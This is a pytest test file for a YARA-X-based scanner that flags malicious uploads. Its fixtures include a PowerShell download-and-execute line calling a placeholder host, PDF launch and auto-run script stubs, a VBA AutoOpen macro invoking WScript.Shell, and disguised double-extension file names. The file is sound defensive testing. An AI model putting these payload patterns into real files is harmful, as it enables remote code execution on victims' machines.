"""Every shipped rule finds what it is for, leaves alone what is near it, and says where it comes from."""

import pytest
from hypothesis import given, settings, strategies as st

from functions.errors import Rejected
from functions.media.rules import OVERLAP_BYTES, WINDOW_BYTES, Windows, compile_rules, shipped
from tests.media_files import EICAR, png, shortcut

PDF, JPEG, DOCX = (
    "application/pdf",
    "image/jpeg",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
)
PE, ELF, OLE, RTF = b"MZ" + bytes(64), b"\x7fELF" + bytes(64), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"{\\rtf1 "
ISO = bytes(0x8000) + b"\x01CD001\x01"
LAUNCH = b"%PDF-1.7\n<< /S /Launch /Win << /F (cmd.exe) >> >>"
SCRIPT = b"%PDF-1.7\n<< /OpenAction << /JavaScript (this.exportDataObject({cName: 'x', nLaunch: 2})) >> >>"
FETCH = b"$x = (New-Object Net.WebClient).DownloadString('http://host/a'); Invoke-Expression $x"
EQUATION = RTF + b"{\\object\\objocx{\\*\\objclass Equation.3}}"
MACRO = OLE + bytes(500) + "_VBA_PROJECT".encode("utf-16-le") + b"Sub AutoOpen() CreateObject(WScript.Shell)"


def found(body: bytes, *, claimed: str = "", name: str = "") -> set[str]:
    windows = Windows(shipped().scanner(), claimed=claimed, name=name)
    windows.feed(body)
    windows.close()
    return windows.found


@pytest.mark.parametrize(
    ("rule", "body", "given"),
    [
        ("FC-0001", EICAR, {}),
        ("FC-0001", b"before " + EICAR, {}),
        ("FC-0002", PE, {"claimed": PDF}),
        ("FC-0002", ELF, {"claimed": JPEG}),
        ("FC-0002", b"dex\n035\0", {"claimed": DOCX}),
        ("FC-0002", PE, {"name": "Invoice.PDF"}),
        ("FC-0003", b"anything", {"name": "invoice.pdf.exe"}),
        ("FC-0003", b"anything", {"name": "报价单.docx  .lnk"}),
        ("FC-0003", b"anything", {"name": "a/b/photo.jpg.iso"}),
        ("FC-0004", shortcut("C:\\Windows\\System32\\cmd.exe /c x"), {}),
        ("FC-0005", b"<html><HTA:APPLICATION id=a><script>new ActiveXObject('x')</script>", {}),
        ("FC-0006", ISO, {"claimed": PDF}),
        ("FC-0007", MACRO, {}),
        ("FC-0008", EQUATION, {}),
        ("FC-0009", LAUNCH, {}),
        ("FC-0010", SCRIPT, {}),
        ("FC-0011", FETCH, {"name": "readme.ps1"}),
        ("FC-0011", FETCH, {"claimed": PDF}),
    ],
    ids=lambda one: one if isinstance(one, str) else None,
)
def test_a_rule_finds_what_it_is_for(rule: str, body: bytes, given: dict[str, str]) -> None:
    assert found(body, **given) == {rule}


@pytest.mark.parametrize(
    ("body", "given"),
    [
        (EICAR[:-5], {}),
        (PE, {"claimed": "application/vnd.microsoft.portable-executable"}),
        (PE, {"name": "setup.exe"}),
        (b"text", {"name": "report.final.pdf"}),
        (b"text", {"name": "exe.pdf"}),
        (shortcut("D:\\photos"), {}),
        (b"a page about <hta:application> tags", {}),
        (ISO, {"claimed": "application/x-iso9660-image"}),
        (OLE + bytes(500) + "WordDocument".encode("utf-16-le"), {}),
        (RTF + b"{\\object\\objemb}", {}),
        (b"%PDF-1.7 << /S /URI /F (x) >>", {}),
        (b"%PDF-1.7 /OpenAction /GoTo", {}),
        (FETCH, {"name": "notes.txt"}),
        (b"", {}),
    ],
    ids=range(14),
)
def test_what_is_only_near_it_is_left_alone(body: bytes, given: dict[str, str]) -> None:
    assert found(body, **given) == set()


def test_every_rule_says_what_it_is_and_has_a_test() -> None:
    told = [dict(rule.metadata) for rule in shipped().compiled]

    assert [one["id"] for one in told] == [f"FC-{number:04}" for number in range(1, len(told) + 1)]
    assert len(told) == 11
    assert len(shipped().version) == 16


@given(at=st.integers(0, 3 * WINDOW_BYTES), cut=st.integers(2**15, 2 * WINDOW_BYTES))
@settings(deadline=None, max_examples=30)
def test_a_pattern_is_found_wherever_it_lies_and_however_the_file_comes(at: int, cut: int) -> None:
    body = bytes(at) + EICAR + bytes(2 * WINDOW_BYTES - at % WINDOW_BYTES)
    windows = Windows(shipped().scanner())

    for start in range(0, len(body), cut):
        windows.feed(memoryview(body)[start : start + cut])
    windows.close()

    assert windows.found == {"FC-0001"}


def test_a_pattern_as_long_as_the_overlap_is_found_across_two_windows() -> None:
    text = "B" + "A" * (OVERLAP_BYTES - 2) + "C"
    meta = 'meta: id="X" version=1 description="d" reference="r"'
    own = compile_rules({"own.yar": f'rule r {{ {meta} strings: $a = "{text}" condition: $a }}'})
    windows = Windows(own.scanner())

    windows.feed(bytes(WINDOW_BYTES - 1) + text.encode() + bytes(WINDOW_BYTES))
    windows.close()

    assert windows.found == {"X"}


def test_the_beginning_is_only_the_beginning() -> None:
    windows = Windows(shipped().scanner(), claimed=PDF)
    windows.feed(bytes(2 * WINDOW_BYTES) + PE)
    windows.close()

    assert windows.found == set()


def test_a_picture_too_large_to_show_is_a_bomb() -> None:
    windows = Windows(shipped().scanner())
    windows.feed(png(60_000, 60_000))
    windows.close()

    assert (windows.why, windows.detected) == ({"bomb: pixels"}, "image/png")


class Slow:
    """A scanner that never ends in time."""

    def set_global(self, name: str, value: object) -> None: ...

    def scan(self, window: bytes) -> object:
        import yara_x

        raise yara_x.TimeoutError(len(window))


def test_a_scan_that_takes_too_long_leaves_the_file_unscannable() -> None:
    windows = Windows(Slow())  # type: ignore[arg-type]  # as far as it is used
    windows.feed(b"x")
    windows.close()

    assert windows.why == {"timeout"}


GOOD = 'rule r { meta: id="X" version=1 description="d" reference="r" condition: false }'


@pytest.mark.parametrize(
    ("source", "says"),
    [
        ("rule r {", "own.yar: error.*"),
        ("rule r { condition: nothing }", "own.yar: error.*nothing"),
        ('include "other.yar"', "own.yar: error.*include"),
        ("rule r { condition: true }", "rule r has no meta id, version, description, reference"),
        (GOOD.replace('reference="r"', 'reference=""'), "rule r has no meta reference"),
        (GOOD + GOOD.replace("rule r", "rule s"), "rule s has the id X of another rule"),
    ],
)
def test_rules_that_cannot_be_used_are_refused_with_the_reason(source: str, says: str) -> None:
    with pytest.raises(Rejected, match=f"(?s){says}"):
        compile_rules({"own.yar": source})


def test_the_version_is_that_of_every_byte_of_the_rules() -> None:
    versions = {
        compile_rules(sources).version
        for sources in ({"a.yar": GOOD}, {"b.yar": GOOD}, {"a.yar": GOOD + " "}, {"a.yar": GOOD, "b.yar": ""})
    }

    assert len(versions) == 4
